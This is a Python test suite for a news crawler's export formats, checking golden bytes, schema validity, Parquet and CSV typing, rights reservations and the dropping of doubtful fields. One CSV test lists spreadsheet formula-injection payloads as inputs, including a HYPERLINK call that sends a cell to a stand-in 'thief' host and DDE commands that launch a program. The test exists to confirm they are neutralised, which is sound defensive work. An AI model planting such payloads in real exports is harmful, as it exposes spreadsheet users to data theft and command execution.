"""Each format has the bytes that it had, and other tools accept it."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections import Counter
from collections.abc import Iterable
from dataclasses import replace
from pathlib import Path
from typing import Any

import duckdb
import feedparser
import pytest
import zstandard
from lxml import etree
from scrapy.utils.misc import load_object
from trafilatura.xml import validate_tei

from crawler.article import Article, Provenance, Source
from crawler.delivery.doubtful_fields import without_doubtful_fields
from crawler.delivery.flat import csv_row, flat_row
from crawler.delivery.format import FormatUnusable, Options
from crawler.delivery.respect import parse_respect, permitted
from crawler.errors import ArgumentInvalid
from crawler.settings import NEWS_DELIVERIES
from crawler.storage.values import Deliverable
from tests.unit.delivery.items import bare, gone, whole
from tests.unit.delivery.ninjs_schema import SCHEMA

GOLDEN = Path(__file__).with_name("golden")
OPTIONS = Options(name="News", software="news-crawler/0")
TEXTS = sorted(set(NEWS_DELIVERIES) - {"parquet", "wacz", "xlsx"})


def write(name: str, folder: Path, items: Iterable[Deliverable] | None = None, **options: Any) -> dict[str, bytes]:
    folder.mkdir(parents=True, exist_ok=True)
    delivered = [whole(), bare(), gone()] if items is None else items
    load_object(NEWS_DELIVERIES[name])().write(delivered, folder, replace(OPTIONS, **options))
    return {path.name: path.read_bytes() for path in folder.iterdir()}


def lines(files: dict[str, bytes]) -> list[dict[str, Any]]:
    (data,) = files.values()
    return [json.loads(line) for line in data.splitlines()]


@pytest.mark.parametrize("name", TEXTS)
def test_a_format_has_the_bytes_that_it_had(name: str, tmp_path: Path) -> None:
    files = write(name, tmp_path)
    folder = GOLDEN / name
    if not folder.exists():
        write(name, folder)
        pytest.fail(f"{folder.name} was missing and has been written: review it")
    assert files == {path.name: path.read_bytes() for path in folder.iterdir()}


@pytest.mark.parametrize("name", sorted(set(NEWS_DELIVERIES) - {"wacz"}))
def test_the_same_items_give_the_same_bytes(name: str, tmp_path: Path) -> None:
    assert write(name, tmp_path / "a") == write(name, tmp_path / "b")
    assert bool(write(name, tmp_path / "c", items=[])) is (name != "tei"), "nothing is a file too, or no file at all"


@pytest.mark.parametrize("name", TEXTS)
def test_text_is_compressed_on_demand(name: str, tmp_path: Path) -> None:
    plain, packed = write(name, tmp_path / "a"), write(name, tmp_path / "b", zstd=True)
    assert set(packed) == {f"{one}.zst" for one in plain}
    for one, data in plain.items():
        assert zstandard.ZstdDecompressor().decompressobj().decompress(packed[f"{one}.zst"]) == data


def test_json_lines_hold_the_whole_record(tmp_path: Path) -> None:
    first, *_ = lines(write("jsonl", tmp_path))
    item = whole()
    own = {"id", "story", "identity", "revision", "change", "classes", "seen", "payload_digest"}
    read = Article.from_dict({k: v for k, v in first.items() if k not in own and not k.startswith("warc_")})
    assert read == item.revision.article
    assert (first["id"], first["story"], first["revision"], first["warc_offset"]) == (12, 5, 2, 7_000_000_000)


def test_ninjs_is_what_its_schema_asks_for(tmp_path: Path) -> None:
    import jsonschema  # its parsers take seconds, which every process that collects tests would pay for

    jsonschema.Draft202012Validator.check_schema(SCHEMA)
    validator = jsonschema.Draft202012Validator(SCHEMA, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    found = lines(write("ninjs", tmp_path))
    for one in found:
        validator.validate(one)
    assert [one["pubStatus"] for one in found] == ["usable", "usable", "canceled"]
    assert [one["uri"] for one in found[0]["associations"]] == ["https://paper.example/c.jpg"], "URIs are absolute"


def test_schema_org_names_the_kind_of_article(tmp_path: Path) -> None:
    first, second, third = lines(write("schemaorg", tmp_path))
    assert (first["@context"], first["@type"]) == ("https://schema.org", "LiveBlogPosting")
    assert second["@type"] == "NewsArticle"
    assert first["author"] == [{"@type": "Person", "name": "Ada Quayle"}, {"@type": "Person", "name": "Tom Reyle"}]
    assert [update["articleBody"] for update in first["liveBlogUpdate"]] == ["It began.", "It ended."]
    assert third["creativeWorkStatus"] == "Withdrawn"


def test_tei_is_valid(tmp_path: Path) -> None:
    files = write("tei", tmp_path)
    assert sorted(files) == ["5-2.xml", "5-3.xml", "6-1.xml"]
    for data in files.values():
        assert validate_tei(etree.fromstring(data))
    root = etree.fromstring(files["5-2.xml"])
    names = [etree.QName(one).localname for one in root.iterfind(".//{*}div/*")]
    assert names == ["head", "ab", "p", "ab", "list", "p", "ab", "ab"]
    assert [one.text for one in root.iterfind(".//{*}item")] == ["one ship", "two ships"]


def test_atom_is_read_by_others(tmp_path: Path) -> None:
    (data,) = write("atom", tmp_path).values()
    feed = feedparser.parse(data)
    assert not feed.bozo
    assert feed.version == "atom10"
    assert [entry.title for entry in feed.entries] == ['Crane & light "stay" <for now>', "Bare"]
    assert feed.entries[0].updated_parsed[:4] == (2026, 11, 21, 8)
    deleted = etree.fromstring(data).find("{http://purl.org/atompub/tombstones/1.0}deleted-entry")
    assert deleted is not None


def test_parquet_is_typed_and_duckdb_reads_it(tmp_path: Path) -> None:
    write("parquet", tmp_path)
    with duckdb.connect() as base:
        base.execute("SET TimeZone = 'UTC'")
        base.execute(f"CREATE VIEW news AS SELECT * FROM '{tmp_path}/articles.parquet'")
        rows = base.execute("SELECT headline, byline, published_offset, warc_offset FROM news ORDER BY id").fetchall()
        assert rows[0] == ('Crane & light "stay" <for now>', ["Ada Quayle", "Tom Reyle"], 60, 7_000_000_000)
        assert base.execute("SELECT count(*) FROM news WHERE published > TIMESTAMPTZ '2026-11-20'").fetchone() == (2,)
        row = base.execute("SELECT rights.licence, images[1].credit, entries[1].published FROM news").fetchone()
        assert row is not None
        assert (row[0], row[1], row[2].isoformat()) == (
            "https://paper.example/rsl.xml", "Tom Reyle", "2026-11-20T12:00:00+00:00",
        )  # fmt: skip
        (kind,) = base.execute("SELECT provenance['headline'].source FROM news").fetchone() or ("",)
        assert kind == "html"
        types = dict(base.execute("SELECT column_name, column_type FROM (DESCRIBE news)").fetchall())
    assert types["published"] == "TIMESTAMP WITH TIME ZONE"
    assert types["tags"] == "VARCHAR[]"
    assert types["free"] == "BOOLEAN"


CSV_COLUMNS = (  # readers go by the names; the order is kept all the same, and a new field of the record is a choice
    "id,story,identity,revision,change,classes,seen,warc_file,warc_offset,warc_record_id,payload_digest,url,site,headline"
    ",body,fetched,requested_url,canonical_url,publisher,standfirst,markdown,byline,dateline,published,published_offset"
    ",modified,modified_offset,section,tags,language,images,kind,free,syndicated_from,cluster,entries,rights,pages"
    ",memento,digest,provenance"
)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://thief.example/?"&A1)', "'="),
        ("=cmd|'/C calc'!A0", "'="),
        ("+1+cmd|' /C calc'!A0", "'+"),
        ("-2+3+cmd|' /C calc'!A0", "'-"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@"),
        ("\t=1+1", "'\t"),
        ("\r=1+1", "'\r"),
        ("＝1+1", "'＝"),
        ("- Nobody came, she said", "'-"),
        ("-12.5", "-1"),
        ("Crane = light", "Cr"),
        ("'quoted'", "'q"),
    ],
)
def test_no_text_of_csv_is_run_by_a_spreadsheet(text: str, cell: str) -> None:
    (written,) = csv_row({"headline": text}, ["headline"])
    assert written.startswith(cell)
    assert written.removeprefix("'") == text.removeprefix("'")
    assert flat_row({"headline": text}, ["headline"]) == [text]


def test_the_columns_of_csv_keep_their_order(tmp_path: Path) -> None:
    (data,) = write("csv", tmp_path).values()
    assert data.decode().splitlines()[0] == CSV_COLUMNS


def test_csv_is_one_row_a_revision_and_lists_are_json(tmp_path: Path) -> None:
    (data,) = write("csv", tmp_path).values()
    first, *others = csv.DictReader(io.StringIO(data.decode(), newline=""))
    assert len(others) == 2
    assert first["headline"] == 'Crane & light "stay" <for now>'
    assert json.loads(first["byline"]) == ["Ada Quayle", "Tom Reyle"]
    assert (first["free"], others[0]["standfirst"]) == (json.dumps(whole().revision.article.free), "")
    with duckdb.connect() as base:
        assert base.execute(f"SELECT count(*) FROM read_csv('{tmp_path}/articles.csv')").fetchone() == (3,)


def test_a_sheet_holds_texts_alone_and_says_what_is_cut(tmp_path: Path) -> None:
    long = whole()
    article = replace(long.revision.article, headline="=HYPERLINK(1)", body="x" * 40_000)
    long = replace(long, revision=replace(long.revision, article=article))
    assert write("xlsx", tmp_path / "a", [long, bare()]) == write("xlsx", tmp_path / "b", [long, bare()])
    with zipfile.ZipFile(tmp_path / "a/articles.xlsx") as sheet:
        cells = etree.fromstring(sheet.read("xl/worksheets/sheet1.xml"))
    rows = [["".join(cell.itertext()) for cell in row] for row in cells.iterfind(".//{*}row")]
    first = dict(zip(rows[0], rows[1], strict=False))
    assert (first["headline"], len(first["body"])) == ("=HYPERLINK(1)", 32_767)
    assert "body" in rows[1][-1].split()
    assert not cells.findall(".//{*}f"), "no formula"
    assert len(rows) == 3


def test_a_format_without_its_library_says_what_to_install(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(FormatUnusable, match=r"pip install 'news-crawler\[parquet\]'"):
        write("parquet", tmp_path)


@pytest.mark.parametrize(
    ("names", "left_out", "kept"),
    [
        ("", {}, 3),
        ("noarchive", {"noarchive": 2}, 1),
        ("tdm,noarchive", {"noarchive": 2}, 1),
        ("ai-train", {"ai-train": 2}, 1),
        ("search,ai-input,nosnippet", {}, 3),
        ("licence", {"licence": 2}, 1),
        ("noimageai", {}, 3),
    ],
)
def test_what_is_reserved_is_left_out_and_counted(names: str, left_out: dict[str, int], kept: int) -> None:
    counts: Counter[str] = Counter()
    assert len(list(permitted([whole(), bare(), gone()], parse_respect(names), counts))) == kept
    assert counts == left_out


def test_reserved_pictures_are_left_out_of_their_story() -> None:
    item = whole()
    article = item.revision.article
    assert article.rights is not None
    rights = replace(article.rights, directives=("noimageai",))
    item = replace(item, revision=replace(item.revision, article=replace(article, rights=rights)))
    counts: Counter[str] = Counter()
    (kept,) = permitted([item], parse_respect("noimageai"), counts)
    assert kept.revision.article.images == ()
    assert kept.revision.article.headline == article.headline
    assert counts == {"images: noimageai": 2}


def test_a_reservation_that_is_not_known_is_refused() -> None:
    with pytest.raises(
        ArgumentInvalid, match=r"--respect nofish is not a valid reservation: choose from noarchive, noai"
    ):
        parse_respect("noarchive, nofish")


def test_doubtful_fields_are_left_empty_and_counted() -> None:
    item = whole()
    origins = {
        name: Provenance(source=Source.HTML, confidence=confidence)
        for name, confidence in (
            ("headline", 0.1),
            ("body", 0.1),
            ("byline", 0.79),
            ("published", 0.5),
            ("tags", 0.8),
            ("published_offset", 0.97),
        )
    }
    item = replace(item, revision=replace(item.revision, article=replace(item.revision.article, provenance=origins)))
    counts: Counter[str] = Counter()
    doubted, untouched = without_doubtful_fields([item, bare()], 0.8, counts)
    article = doubted.revision.article
    assert (article.byline, article.published, article.published_offset, article.tags) == (
        (),
        None,
        None,
        item.revision.article.tags,
    )
    assert (article.headline, article.body) == (item.revision.article.headline, item.revision.article.body)
    assert set(article.provenance) == {"headline", "body", "tags"}
    assert counts == {"byline: doubtful": 1, "published: doubtful": 1}
    assert untouched == bare()
